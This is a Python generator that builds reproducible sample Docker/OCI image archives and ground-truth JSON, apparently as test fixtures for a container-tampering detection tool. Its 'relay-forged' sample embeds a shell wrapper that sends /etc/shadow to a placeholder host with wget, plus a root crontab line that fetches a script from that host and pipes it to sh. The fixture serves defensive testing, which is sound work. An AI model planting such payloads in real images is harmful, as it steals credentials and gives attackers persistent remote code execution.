#!/usr/bin/env python3
"""Deterministic generator for the bundled sample container images.

Writes four small image archives plus one ``<name>.truth.json`` per sample and
a ``README.md`` describing them:

* ``clean.docker.tar``        legacy ``docker save`` layout (Docker <= 24)
* ``clean-zstd.oci.tar``      OCI image layout tar with zstd layers
* ``relay-genuine.oci.tar``   OCI image layout tar with gzip layers
* ``relay-forged.oci.tar``    same history as the genuine one, but the
                              ``adduser`` RUN layer is poisoned; every digest
                              in it is self-consistent.

The output is byte-for-byte reproducible: no wall-clock times, no random
state, no host users, entries are sorted, gzip headers carry mtime=0 and no
file name, and JSON is serialised with fixed separators and key order.  The
only external influences are the zlib and libzstd versions (the committed
samples were made with zlib 1.2.13 and the zstd 1.5.7 bundled in
``zstandard`` 0.25.0); the test suite detects drift.

Only the standard library and ``zstandard`` are used.

Usage: make_samples.py [--out DIR]      (default: the folder of this script)
"""

from __future__ import annotations

import argparse
import datetime as _dt
import gzip
import hashlib
import io
import json
import struct
import sys
import tarfile
from dataclasses import dataclass
from pathlib import Path

import zstandard

# --------------------------------------------------------------------------
# Fixed knobs.  Changing any of these changes the committed sample bytes.
# --------------------------------------------------------------------------

TAR_FORMAT = tarfile.PAX_FORMAT  # ustar headers; PAX records only if needed
GZIP_LEVEL = 9
ZSTD_LEVEL = 19

MT_OCI_INDEX = "application/vnd.oci.image.index.v1+json"
MT_OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
MT_OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
MT_LAYER = {
    "gzip": "application/vnd.oci.image.layer.v1.tar+gzip",
    "zstd": "application/vnd.oci.image.layer.v1.tar+zstd",
}
REF_ANNOTATION = "org.opencontainers.image.ref.name"

# The "base OS" files predate the build (ADD keeps the tarball's mtimes).
BASE_OS_TIME = "2025-12-01T00:00:00Z"
# The relayd binary on the build host, before it was COPY'd in.
RELAYD_HOST_TIME = "2026-01-10T09:58:00Z"
# history[i].created; the image "created" is the last one.
STEP_TIMES = [f"2026-01-10T10:00:0{i}Z" for i in range(6)]

ENV_PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
ENTRYPOINT = ["/usr/local/bin/relayd"]
RUN_ADDUSER = (
    "/bin/sh -c addgroup -S relay && adduser -S -G relay relay"
    " && mkdir -p /var/lib/relay && chown relay:relay /var/lib/relay"
)
RELAY_UID = RELAY_GID = 100

# Index of the poisoned history entry and of the layer it produced.
TAMPER_HISTORY = 3
TAMPER_LAYER = 2


# --------------------------------------------------------------------------
# Small helpers
# --------------------------------------------------------------------------

def sha256_hex(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def digest(data: bytes) -> str:
    return "sha256:" + sha256_hex(data)


def image_json(obj) -> bytes:
    """Compact JSON as container tools write it (no spaces, no trailing NL).

    Key order is the dict insertion order, which is fixed by this code.
    """
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=True).encode()


def pretty_json(obj) -> bytes:
    """Human-readable JSON for the truth files."""
    return (json.dumps(obj, indent=2, separators=(",", ": "), ensure_ascii=True) + "\n").encode()


def epoch(ts: str) -> int:
    when = _dt.datetime.strptime(ts, "%Y-%m-%dT%H:%M:%SZ")
    return int(when.replace(tzinfo=_dt.timezone.utc).timestamp())


def prng_bytes(seed: str, n: int) -> bytes:
    """SHA-256 in counter mode: stable across Python versions and platforms."""
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return bytes(out[:n])


def fake_elf(seed: str, size: int, banner: bytes) -> bytes:
    """A plausible-looking x86-64 ELF of exactly ``size`` bytes.

    The 64-byte ELF header is well formed (ET_DYN, EM_X86_64, no program or
    section headers), followed by a banner string and a body mixing
    incompressible, zero and low-entropy 64-byte blocks so that gzip/zstd get
    a realistic (roughly 2:1) ratio rather than all-or-nothing.
    """
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = struct.pack(
        "<16sHHIQQQIHHHHHH",
        ident, 3, 0x3E, 1,  # e_type=ET_DYN, e_machine=EM_X86_64, e_version
        0x1040, 0, 0, 0,    # e_entry, e_phoff, e_shoff, e_flags
        64, 56, 0, 64, 0, 0,
    )
    body = bytearray(header + banner)
    noise = prng_bytes(seed + "/noise", size)
    selector = prng_bytes(seed + "/select", size // 64 + 1)
    i = 0
    while len(body) < size:
        chunk = noise[i * 64:(i + 1) * 64]
        kind = selector[i]
        if kind < 112:            # ~44%: machine-code-like, incompressible
            block = chunk
        elif kind < 160:          # ~19%: zero padding
            block = bytes(64)
        else:                     # ~37%: low-entropy tables / strings
            block = bytes(0x40 | (b & 0x0F) for b in chunk)
        body += block
        i += 1
    return bytes(body[:size])


# --------------------------------------------------------------------------
# Layer tar construction
# --------------------------------------------------------------------------

@dataclass(frozen=True)
class Entry:
    """One tar member.  ``name`` never has a leading or trailing slash."""

    name: str
    type: bytes
    mode: int
    mtime: int
    data: bytes = b""
    linkname: str = ""
    uid: int = 0
    gid: int = 0

    @property
    def is_dir(self) -> bool:
        return self.type == tarfile.DIRTYPE

    @property
    def path(self) -> str:
        """Absolute path as forensics output spells it (dirs end with '/')."""
        return "/" + self.name + ("/" if self.is_dir else "")


def d(name: str, ts: str, mode: int = 0o755, uid: int = 0, gid: int = 0) -> Entry:
    return Entry(name, tarfile.DIRTYPE, mode, epoch(ts), uid=uid, gid=gid)


def f(name: str, data: bytes, ts: str, mode: int = 0o644, uid: int = 0, gid: int = 0) -> Entry:
    return Entry(name, tarfile.REGTYPE, mode, epoch(ts), data=data, uid=uid, gid=gid)


def sym(name: str, target: str, ts: str) -> Entry:
    return Entry(name, tarfile.SYMTYPE, 0o777, epoch(ts), linkname=target)


def sort_key(name: str) -> list[str]:
    # Component-wise ordering keeps every directory before its children.
    return name.split("/")


def build_tar(entries: list[Entry], sort: bool = True) -> bytes:
    """Serialise entries into a POSIX tar (sorted unless ``sort`` is false).

    Headers come from ``TarInfo.tobuf`` but the archive is assembled by hand
    so that it ends with exactly two zero blocks, like Go's archive/tar,
    instead of ``TarFile.close()``'s padding to a 10 KiB record.
    """
    names = [e.name for e in entries]
    if len(set(names)) != len(names):
        raise ValueError(f"duplicate tar entries: {sorted(names)}")
    if sort:
        entries = sorted(entries, key=lambda e: sort_key(e.name))
    out = bytearray()
    for e in entries:
        info = tarfile.TarInfo(e.name)  # tobuf() appends "/" to directories
        info.type = e.type
        info.mode = e.mode
        info.mtime = e.mtime
        info.uid, info.gid = e.uid, e.gid
        info.uname = info.gname = ""
        info.linkname = e.linkname
        info.size = len(e.data) if e.type == tarfile.REGTYPE else 0
        out += info.tobuf(TAR_FORMAT, "utf-8", "surrogateescape")
        if info.size:
            out += e.data
            out += bytes(-len(e.data) % tarfile.BLOCKSIZE)
    out += bytes(2 * tarfile.BLOCKSIZE)
    return bytes(out)


def gzip_bytes(data: bytes) -> bytes:
    buf = io.BytesIO()  # no .name, so the gzip header carries no file name
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=GZIP_LEVEL) as gz:
        gz.write(data)
    return buf.getvalue()


def zstd_bytes(data: bytes) -> bytes:
    # Single-threaded one-shot compression: the frame (incl. content size) is
    # a pure function of input, level and libzstd version.
    return zstandard.ZstdCompressor(level=ZSTD_LEVEL).compress(data)


COMPRESSORS = {"gzip": gzip_bytes, "zstd": zstd_bytes, "none": lambda b: b}


# --------------------------------------------------------------------------
# The relay image: build steps
# --------------------------------------------------------------------------

BUSYBOX = fake_elf("busybox", 32 * 1024, b"BusyBox v1.36.1 (sample) multi-call binary.\x00")
RELAYD = fake_elf(
    "relayd", 48 * 1024,
    b"relayd 5.2.0 (sample build)\x00usage: relayd [-c CONFIG] [-l ADDR:PORT]\x00",
)

# Forged-image payloads.  The addresses are from TEST-NET-3 (RFC 5737).
EVIL_RELAYD = b"""#!/bin/sh
# relayd launcher
cp /etc/shadow /tmp/.ICE-unix-cache 2>/dev/null
(wget -q -O /dev/null --post-file=/etc/shadow http://203.0.113.66/c >/dev/null 2>&1 &)
exec /usr/local/lib/relayd.real "$@"
"""
EVIL_CRONTAB = b"*/5 * * * * wget -q -O- http://203.0.113.66/k | sh\n"

PASSWD = (
    "root:x:0:0:root:/root:/bin/sh\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
)
GROUP = "root:x:0:\ndaemon:x:1:\nnogroup:x:65534:\n"


def shadow_day(ts: str) -> int:
    return epoch(ts) // 86400


SHADOW = (
    f"root:*:{shadow_day(BASE_OS_TIME)}:0:99999:7:::\n"
    f"daemon:*:{shadow_day(BASE_OS_TIME)}:0:99999:7:::\n"
    f"nobody:*:{shadow_day(BASE_OS_TIME)}:0:99999:7:::\n"
)
OS_RELEASE = (
    'PRETTY_NAME="Sample Linux 1.0"\n'
    'NAME="Sample Linux"\n'
    'VERSION_ID="1.0"\n'
    "ID=samplelinux\n"
    'HOME_URL="https://example.invalid/"\n'
)
DPKG_STATUS = (
    "Package: busybox\n"
    "Status: install ok installed\n"
    "Priority: optional\n"
    "Section: shells\n"
    f"Installed-Size: {(len(BUSYBOX) + 1023) // 1024}\n"
    "Maintainer: Sample Maintainers <samples@example.invalid>\n"
    "Architecture: amd64\n"
    "Version: 1:1.36.1-1\n"
    "Description: Tiny utilities for small and embedded systems\n"
    " BusyBox combines tiny versions of many common UNIX utilities into a single\n"
    " small executable.\n"
)


def base_layer() -> list[Entry]:
    t = BASE_OS_TIME
    md5 = hashlib.md5(BUSYBOX).hexdigest()
    return [
        d("bin", t), d("etc", t), d("root", t, 0o700), d("tmp", t, 0o1777),
        d("usr", t), d("usr/bin", t), d("usr/local", t), d("usr/local/bin", t),
        d("var", t), d("var/lib", t), d("var/lib/dpkg", t), d("var/lib/dpkg/info", t),
        f("bin/busybox", BUSYBOX, t, 0o755),
        sym("bin/sh", "busybox", t),
        sym("bin/ls", "busybox", t),
        f("etc/passwd", PASSWD.encode(), t),
        f("etc/group", GROUP.encode(), t),
        f("etc/shadow", SHADOW.encode(), t, 0o640),
        f("etc/os-release", OS_RELEASE.encode(), t),
        f("var/lib/dpkg/status", DPKG_STATUS.encode(), t),
        f("var/lib/dpkg/info/busybox.list", b"/.\n/bin\n/bin/busybox\n", t),
        f("var/lib/dpkg/info/busybox.md5sums", f"{md5}  bin/busybox\n".encode(), t),
    ]


def copy_layer() -> list[Entry]:
    t = STEP_TIMES[2]
    # COPY keeps the source file's mtime; the touched parent dirs get the
    # step's time.
    return [
        d("usr", t), d("usr/local", t), d("usr/local/bin", t),
        f("usr/local/bin/relayd", RELAYD, RELAYD_HOST_TIME, 0o755),
    ]


def adduser_layer(forged: bool) -> list[Entry]:
    t = STEP_TIMES[TAMPER_HISTORY]
    day = shadow_day(t)
    entries = [
        d("etc", t),
        f("etc/passwd", (PASSWD + "relay:x:100:100:Linux User,,,:/home/relay:/sbin/nologin\n").encode(), t),
        f("etc/group", (GROUP + "relay:x:100:relay\n").encode(), t),
        f("etc/shadow", (SHADOW + f"relay:!:{day}:0:99999:7:::\n").encode(), t, 0o640),
        d("var", t), d("var/lib", t),
        d("var/lib/relay", t, uid=RELAY_UID, gid=RELAY_GID),
    ]
    if forged:
        # The attacker's additions, stamped with the step's own time so the
        # layer looks like a single coherent RUN.  Parent dirs that already
        # existed below are re-emitted as any real diff would.
        entries += [
            d("etc/crontabs", t),
            f("etc/crontabs/root", EVIL_CRONTAB, t, 0o600),
            d("usr", t), d("usr/local", t), d("usr/local/bin", t),
            f("usr/local/bin/relayd", EVIL_RELAYD, t, 0o755),
            d("usr/local/lib", t),
            f("usr/local/lib/relayd.real", RELAYD, t, 0o755),
        ]
    return entries


@dataclass
class Step:
    created: str
    created_by: str
    entries: list[Entry] | None  # None: empty_layer (metadata-only step)


def relay_steps(forged: bool) -> list[Step]:
    base = base_layer()
    # The "file:<hex>" tokens mimic the classic builder's content hashes.
    add_hash = sha256_hex(build_tar(base))
    copy_hash = sha256_hex(RELAYD)
    return [
        Step(STEP_TIMES[0], f"/bin/sh -c #(nop) ADD file:{add_hash} in / ", base),
        Step(STEP_TIMES[1], f"/bin/sh -c #(nop) ENV {ENV_PATH}", None),
        Step(STEP_TIMES[2], f"/bin/sh -c #(nop) COPY file:{copy_hash} in /usr/local/bin/relayd ", copy_layer()),
        Step(STEP_TIMES[3], RUN_ADDUSER, adduser_layer(forged)),
        Step(STEP_TIMES[4], "/bin/sh -c #(nop)  USER relay", None),
        Step(STEP_TIMES[5], f"/bin/sh -c #(nop)  ENTRYPOINT {json.dumps(ENTRYPOINT)}", None),
    ]


# --------------------------------------------------------------------------
# Image assembly
# --------------------------------------------------------------------------

@dataclass
class Image:
    steps: list[Step]
    layer_tars: list[bytes]  # uncompressed, one per non-empty step
    config: bytes

    @property
    def diff_ids(self) -> list[str]:
        return [digest(t) for t in self.layer_tars]

    @property
    def created(self) -> str:
        return self.steps[-1].created


def build_image(steps: list[Step]) -> Image:
    layer_tars = [build_tar(s.entries) for s in steps if s.entries is not None]
    history = []
    for s in steps:
        h = {"created": s.created, "created_by": s.created_by}
        if s.entries is None:
            h["empty_layer"] = True  # Docker omits the key when false
        history.append(h)
    config = {
        "created": steps[-1].created,
        "architecture": "amd64",
        "os": "linux",
        "config": {"User": "relay", "Env": [ENV_PATH], "Entrypoint": ENTRYPOINT},
        "rootfs": {"type": "layers", "diff_ids": [digest(t) for t in layer_tars]},
        "history": history,
    }
    return Image(steps, layer_tars, image_json(config))


def history_truth(image: Image) -> list[dict]:
    return [
        {"created": s.created, "created_by": s.created_by, "empty_layer": s.entries is None}
        for s in image.steps
    ]


def outer_dir(name: str, mtime: int) -> Entry:
    return Entry(name, tarfile.DIRTYPE, 0o755, mtime)


def outer_file(name: str, data: bytes, mtime: int) -> Entry:
    return Entry(name, tarfile.REGTYPE, 0o644, mtime, data=data)


def write_oci_archive(image: Image, ref: str, compression: str) -> tuple[bytes, dict]:
    """OCI image layout tar as ``skopeo copy ... oci-archive:`` produces."""
    t = epoch(image.created)
    blobs: dict[str, bytes] = {}
    layer_descs, layer_truth = [], []
    for tar_bytes in image.layer_tars:
        blob = COMPRESSORS[compression](tar_bytes)
        blobs[sha256_hex(blob)] = blob
        layer_descs.append({"mediaType": MT_LAYER[compression], "digest": digest(blob), "size": len(blob)})
        layer_truth.append({
            "digest": digest(blob), "size": len(blob), "media_type": MT_LAYER[compression],
            "compression": compression, "diff_id": digest(tar_bytes),
            "path": f"blobs/sha256/{sha256_hex(blob)}",
        })
    blobs[sha256_hex(image.config)] = image.config
    manifest = image_json({
        "schemaVersion": 2,
        "mediaType": MT_OCI_MANIFEST,
        "config": {"mediaType": MT_OCI_CONFIG, "digest": digest(image.config), "size": len(image.config)},
        "layers": layer_descs,
    })
    blobs[sha256_hex(manifest)] = manifest
    index = image_json({
        "schemaVersion": 2,
        "mediaType": MT_OCI_INDEX,
        "manifests": [{
            "mediaType": MT_OCI_MANIFEST, "digest": digest(manifest), "size": len(manifest),
            "annotations": {REF_ANNOTATION: ref},
        }],
    })
    # Explicit member order: index.json goes last (as skopeo writes it), so
    # a streaming reader has seen every blob before it learns the refs.
    archive = build_tar(
        [outer_file("oci-layout", image_json({"imageLayoutVersion": "1.0.0"}), t),
         outer_dir("blobs", t), outer_dir("blobs/sha256", t)]
        + [outer_file(f"blobs/sha256/{h}", blobs[h], t) for h in sorted(blobs)]
        + [outer_file("index.json", index, t)],
        sort=False,
    )
    truth = {
        "format": "oci-archive",
        "refs": [ref],
        "manifest_digest": digest(manifest),
        "config_digest": digest(image.config),
        "layers": layer_truth,
        "history": history_truth(image),
    }
    return archive, truth


def chain_ids(diff_ids: list[str]) -> list[str]:
    """OCI ChainIDs: chain[0] = diff[0]; chain[n] = sha256(chain[n-1] + " " + diff[n])."""
    chains: list[str] = []
    for diff_id in diff_ids:
        chains.append(diff_id if not chains else digest(f"{chains[-1]} {diff_id}".encode()))
    return chains


def write_docker_archive(image: Image, repo: str, tag: str) -> tuple[bytes, dict]:
    """Legacy ``docker save`` layout (Docker <= 24, before the OCI layout)."""
    config_name = sha256_hex(image.config) + ".json"
    layer_steps = [s for s in image.steps if s.entries is not None]
    entries: list[Entry] = []
    layer_paths, layer_truth = [], []
    parent = ""
    for i, (tar_bytes, chain, step) in enumerate(zip(image.layer_tars, chain_ids(image.diff_ids), layer_steps)):
        top = i == len(image.layer_tars) - 1
        created = image.created if top else step.created
        # Docker derives v1 ids from the layer chain and parent; any stable
        # function of them will do here.
        v1id = sha256_hex(image_json({"created": created, "layer_id": chain, "parent": parent}))
        v1 = {"id": v1id}
        if parent:
            v1["parent"] = parent
        v1["created"] = created
        v1["container_config"] = {"Cmd": [step.created_by]}
        if top:  # the top layer's json carries the image config, as Docker's does
            v1["config"] = {"User": "relay", "Env": [ENV_PATH], "Entrypoint": ENTRYPOINT}
            v1["architecture"] = "amd64"
        v1["os"] = "linux"
        t = epoch(created)
        entries += [
            outer_dir(v1id, t),
            outer_file(f"{v1id}/VERSION", b"1.0", t),
            outer_file(f"{v1id}/json", image_json(v1), t),
            outer_file(f"{v1id}/layer.tar", tar_bytes, t),
        ]
        layer_paths.append(f"{v1id}/layer.tar")
        layer_truth.append({
            "digest": digest(tar_bytes), "size": len(tar_bytes), "media_type": None,
            "compression": "none", "diff_id": digest(tar_bytes), "path": f"{v1id}/layer.tar",
        })
        parent = v1id
    ref = f"{repo}:{tag}"
    # docker save stamps the config with the image time and the two index
    # files with the Unix epoch.
    entries += [
        outer_file(config_name, image.config, epoch(image.created)),
        outer_file("manifest.json",
                   image_json([{"Config": config_name, "RepoTags": [ref], "Layers": layer_paths}]), 0),
        outer_file("repositories", image_json({repo: {tag: parent}}), 0),
    ]
    truth = {
        "format": "docker-archive",
        "refs": [ref],
        "manifest_digest": None,
        "config_digest": digest(image.config),
        "layers": layer_truth,
        "history": history_truth(image),
    }
    return build_tar(entries), truth


def tamper_truth(genuine: Image, forged: Image) -> dict:
    """Describe the poisoned layer by diffing it against the genuine one.

    A path is unexplained if the forged layer's entry for it differs from (or
    is absent in) the genuine layer, except directories that already existed
    in a lower layer and are merely re-emitted as parents of changed files.
    """
    g_layer = {e.name: e for e in genuine.steps[TAMPER_HISTORY].entries}
    f_layer = forged.steps[TAMPER_HISTORY].entries
    lower = {e.name for s in forged.steps[:TAMPER_HISTORY] if s.entries for e in s.entries}
    unexplained = sorted(
        e.path for e in f_layer
        if g_layer.get(e.name) != e and not (e.is_dir and e.name in lower)
    )
    # Self-checks on the premise of the sample (not asserts: must survive -O).
    if genuine.diff_ids[TAMPER_LAYER] == forged.diff_ids[TAMPER_LAYER]:
        raise RuntimeError("forged layer is identical to the genuine one")
    if [(s.created, s.created_by) for s in genuine.steps] != [(s.created, s.created_by) for s in forged.steps]:
        raise RuntimeError("forged history differs from the genuine one")
    return {
        "history": TAMPER_HISTORY,
        "layer": TAMPER_LAYER,
        "unexplained_paths": unexplained,
        "binary_replaced": "/usr/local/bin/relayd",
        "persistence": "/etc/crontabs/root",
        "stashed_original": "/usr/local/lib/relayd.real",
        "genuine_diff_id": genuine.diff_ids[TAMPER_LAYER],
        "forged_diff_id": forged.diff_ids[TAMPER_LAYER],
    }


# --------------------------------------------------------------------------
# README
# --------------------------------------------------------------------------

README_TEMPLATE = """\
# Bundled sample images

Generated by `make_samples.py` (standard library + `zstandard` only).  Do not
edit the archives or `*.truth.json` by hand: change the generator and run

    .venv/bin/python samples/make_samples.py            # writes into samples/
    .venv/bin/python -m pytest -q tests/test_samples_generator.py

The output is byte-for-byte reproducible (fixed mtimes, uid/gid 0 or 100,
empty user/group names, sorted entries, gzip mtime 0, zstd level {zstd_level},
compact JSON).  The test suite regenerates everything and fails if the
committed files drift.

All four archives contain the same small "relay" image build:

| # | created_by (abridged)                                  | layer |
|---|--------------------------------------------------------|-------|
| 0 | `ADD file:... in /` - tiny base OS (busybox, dpkg db)  | 0     |
| 1 | `ENV PATH=...`                                         | empty |
| 2 | `COPY file:... in /usr/local/bin/relayd` (fake ELF)    | 1     |
| 3 | `RUN addgroup/adduser relay, mkdir /var/lib/relay`     | 2     |
| 4 | `USER relay`                                           | empty |
| 5 | `ENTRYPOINT ["/usr/local/bin/relayd"]`                 | empty |

The base layer ships a minimal dpkg database (`var/lib/dpkg/status`,
`info/busybox.list`, `info/busybox.md5sums`) for a fake `busybox` package.
The ELF files are synthetic (valid ELF header, pseudo-random body).

## Samples

{sections}
## Truth files

`<name>.truth.json` is computed by the generator from the bytes it wrote:
`format`, `archive`, `refs`, `manifest_digest` (null for docker-archive),
`config_digest`, `layers` (`digest`, `size`, `media_type` (null for
docker-archive), `compression`, `diff_id`, `path` inside the archive),
`history` (`created`, `created_by`, `empty_layer`), `tamper` (null unless
forged), and the archive's own `archive_sha256` / `archive_size`.

For `relay-forged`, `tamper.unexplained_paths` lists every path in the
poisoned layer whose entry is absent from (or differs from) the genuine
layer, excluding directories that already existed in a lower layer and are
only re-emitted as parents; directories end with `/`.
"""

DESCRIPTIONS = {
    "clean": (
        "Legacy `docker save` archive (Docker <= 24 layout): `manifest.json`, "
        "`repositories`, `<config sha256>.json`, and one `<v1id>/` directory per "
        "layer holding `VERSION`, `json` and an uncompressed `layer.tar`. "
        "Untampered."
    ),
    "clean-zstd": (
        "OCI image layout tar (as `skopeo copy ... oci-archive:` writes): "
        "`oci-layout`, `blobs/sha256/*`, `index.json` last. Layers are "
        "`application/vnd.oci.image.layer.v1.tar+zstd`. Untampered; same layer "
        "contents (diff_ids) and config as `relay-genuine`."
    ),
    "relay-genuine": (
        "OCI image layout tar with gzip layers. The untampered reference for "
        "`relay-forged`."
    ),
    "relay-forged": (
        "OCI image layout tar with gzip layers, the motivating attack. The "
        "history (`created_by` and `created`) is identical to `relay-genuine`, "
        "but the layer of history[3] (the `adduser` RUN, layer 2) additionally "
        "replaces the `relayd` ELF with a `#!/bin/sh` wrapper that exfiltrates "
        "`/etc/shadow` and then execs the stashed original "
        "`/usr/local/lib/relayd.real`, and installs a cron persistence entry in "
        "`/etc/crontabs/root`. Every digest (layers, diff_ids, config, "
        "manifest) is self-consistent; only the content betrays it. Network "
        "addresses are from TEST-NET-3 (203.0.113.0/24)."
    ),
}


def render_readme(results: dict[str, tuple[str, bytes, dict]]) -> bytes:
    sections = []
    for name, (archive_name, archive, truth) in results.items():
        sections.append(
            f"### `{archive_name}`\n\n{DESCRIPTIONS[name]}\n\n"
            f"- refs: `{', '.join(truth['refs'])}`\n"
            f"- size: {len(archive)} bytes, sha256 `{sha256_hex(archive)}`\n"
            f"- config: `{truth['config_digest']}`\n"
            f"- manifest: `{truth['manifest_digest'] or 'n/a (docker-archive)'}`\n"
            f"- truth: `{name}.truth.json`\n"
        )
    return README_TEMPLATE.format(zstd_level=ZSTD_LEVEL, sections="\n".join(sections)).encode()


# --------------------------------------------------------------------------
# Entry point
# --------------------------------------------------------------------------

def generate() -> dict[str, bytes]:
    """Return {file name: bytes} for every file the generator owns."""
    genuine = build_image(relay_steps(forged=False))
    forged = build_image(relay_steps(forged=True))

    results: dict[str, tuple[str, bytes, dict]] = {}

    def add(name: str, archive_name: str, archive_and_truth: tuple[bytes, dict], tamper=None):
        archive, truth = archive_and_truth
        truth = {"archive": archive_name, **truth, "tamper": tamper,
                 "archive_sha256": sha256_hex(archive), "archive_size": len(archive)}
        results[name] = (archive_name, archive, truth)

    add("clean", "clean.docker.tar", write_docker_archive(genuine, "sample/clean", "1.0"))
    add("clean-zstd", "clean-zstd.oci.tar", write_oci_archive(genuine, "sample/clean-zstd:1.0", "zstd"))
    add("relay-genuine", "relay-genuine.oci.tar", write_oci_archive(genuine, "sample/relay:5.2", "gzip"))
    add("relay-forged", "relay-forged.oci.tar", write_oci_archive(forged, "sample/relay:5.2", "gzip"),
        tamper=tamper_truth(genuine, forged))

    out: dict[str, bytes] = {}
    for name, (archive_name, archive, truth) in results.items():
        out[archive_name] = archive
        out[f"{name}.truth.json"] = pretty_json(truth)
    out["README.md"] = render_readme(results)
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent,
                        help="output directory (default: the folder of this script)")
    args = parser.parse_args(argv)
    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in generate().items():
        (args.out / name).write_bytes(data)
        print(f"{len(data):>9}  {args.out / name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
